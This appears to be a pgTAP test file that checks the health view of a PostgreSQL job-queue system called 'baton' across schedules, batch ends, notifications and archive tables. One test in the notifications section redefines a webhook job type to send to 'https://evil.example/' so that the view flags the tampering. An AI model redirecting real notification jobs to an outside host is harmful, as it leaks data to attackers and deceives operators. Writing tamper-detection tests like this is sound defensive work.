-- Schedules, ends of batches and notifications: what does not work is named with its fix, what works is not.
begin;
\ir ../fixtures.psql
select plan(21);
set local client_min_messages = error;
select baton.define_job_type('{"job_type": "t", "steps": [{"key": "a", "command": ["x"]}]}') \g /dev/null
select baton.define_job_type('{"job_type": "told", "steps": [{"key": "a", "command": ["x"]}]}') \g /dev/null

create function pg_temp.said(p_name text) returns text language sql as $$
  select string_agg(status || ': ' || message || ' -> ' || fix, E'\n' order by message) from baton.health where name = p_name
$$;

-- Schedules.
select baton.schedule_job('nightly', '30 2 * * *', 't') \g /dev/null
select is(pg_temp.said('schedule nightly'), null, 'a schedule that is well has no row');
update cron.job set active = false where jobid = (select entry_id from baton.schedules where name = 'nightly');
select matches(pg_temp.said('schedule nightly'), '^warning: Its entry of pg_cron is switched off\. -> select cron\.alter_job\(\d+, active := true\);$', 'switched off');
delete from cron.job where jobid = (select entry_id from baton.schedules where name = 'nightly');
select is(pg_temp.said('schedule nightly'),
  'warning: Its entry of pg_cron is missing. -> Make it again with select baton.schedule_job(''nightly'', ''30 2 * * *'', ''t'', ...), as a role that can log in.', 'missing');
select baton.schedule_job('nightly', '30 2 * * *', 't') \g /dev/null
select is(pg_temp.said('schedule nightly'), null, 'made again');

select pg_temp.pass('14 hours 35 minutes');
select matches(pg_temp.said('schedule nightly'), '^warning: 1 slot of the last 24 hours gave no job, last .*, because nothing called it\. -> To make up for one: select ',
  'a slot was missed');
set local role baton_operator;
select matches(pg_temp.said('schedule nightly'), '1 slot of the last 24 hours gave no job', 'an operator is told');
set local role baton_reader;
select matches(pg_temp.said('schedule nightly'), '1 slot of the last 24 hours gave no job', 'and a reader');
reset role;
select baton.disable_job_type('t');
select is(baton.run_schedule('nightly'), null, 'it fires, and its job is refused');
select matches(pg_temp.said('schedule nightly'), '1 slot .* \(.*disabled.*\)\. -> ', 'the reason is told');
select baton.enable_job_type('t');
create function pg_temp.follow(p_fix text) returns bigint language plpgsql as $$
declare
  v_id bigint;
begin
  execute substring(p_fix from 'select baton.run_schedule.*$') into v_id;
  return v_id;
end $$;
select pg_temp.follow(pg_temp.said('schedule nightly')) as job \gset
select is(pg_temp.said('schedule nightly'), null, 'what the fix says makes up for it');
select pg_temp.executor() as one \gset
select pg_temp.claim(:one) \g /dev/null
select pg_temp.fail(:job, 'a') \g /dev/null
select is(pg_temp.said('schedule nightly'), format('warning: Its last job, %s, failed. -> See why: baton jobs show %s. Then: baton jobs retry %s', :job, :job, :job), 'its job failed');

-- The end of a batch.
select baton.create_batch('spring', '[{}]', 't', '{"job_type": "told"}') \g /dev/null
select id as member from baton.jobs where batch_id = 'spring' \gset
select baton.disable_job_type('told');
select pg_temp.claim(:one) \g /dev/null
select pg_temp.report(:member, 'a') \g /dev/null
select matches(pg_temp.said('batch spring'), '^warning: The job for its end was refused: .*disabled.*\. -> .*create_job\(''told'', \.\.\.\);$', 'the end of a batch was refused');
select pg_temp.pass('8 days');
select is(pg_temp.said('batch spring'), null, 'that is not told for ever');

-- Notifications.
select baton.enable_job_type('told');
insert into baton.notifications (name, target_job_type) values ('tell', 'told');
insert into baton.notifications (name, webhook_url, status) values ('hook', 'https://example.com/x', 'failed');
select is(concat(pg_temp.said('notification tell'), pg_temp.said('notification hook')), '', 'rules that are well have no row');
select baton.disable_job_type('told');
select is(pg_temp.said('notification tell'),
  'warning: Its job type told is disabled, so nobody is told. -> select baton.enable_job_type(''told''); or: update baton.notifications set enabled = false where name = ''tell'';',
  'the job type of a rule is disabled');
update baton.job_types set disabled_at = now() where name = 'webhook.hook';
select is(pg_temp.said('notification hook'),
  'warning: Its job type webhook.hook is disabled, so nobody is told. -> update baton.notifications set webhook_url = webhook_url where name = ''hook'';', 'that of a webhook');
update baton.notifications set webhook_url = webhook_url where name = 'hook';
select is(pg_temp.said('notification hook'), null, 'what the fix says repairs it');
select baton._define_job_type('{"job_type": "webhook.hook", "steps": [{"key": "send", "command": ["baton-webhook"], "environment": {"WEBHOOK_URL": "https://evil.example/"}}]}');
select is(pg_temp.said('notification hook'),
  'warning: Its job type webhook.hook was defined by somebody else, so others than its webhook may be told. -> update baton.notifications set webhook_url = webhook_url where name = ''hook'';', 'it was made to go elsewhere');
update baton.notifications set webhook_url = webhook_url where name = 'hook';
select is(pg_temp.said('notification hook'), null, 'which the fix repairs, too');
insert into baton.jobs (job_type, parameters) values ('webhook.hook', '{"notification": {}}') returning id as delivery \gset
select pg_temp.claim(:one) \g /dev/null
select pg_temp.fail(:delivery, 'send') \g /dev/null
select matches(pg_temp.said('notification hook'), format('^warning: 1 delivery failed in the last 24 hours, last job %s \(.+\)\. -> .*baton jobs retry %s$', :delivery, :delivery), 'a delivery failed');

-- The archive.
create table baton.archived_jobs_2031_03 (like baton.archived_jobs);
select matches(pg_temp.said('retention'), 'no part of it: archived_jobs_2031_03\. ', 'a month that is no part of the archive');

select * from finish();
rollback;
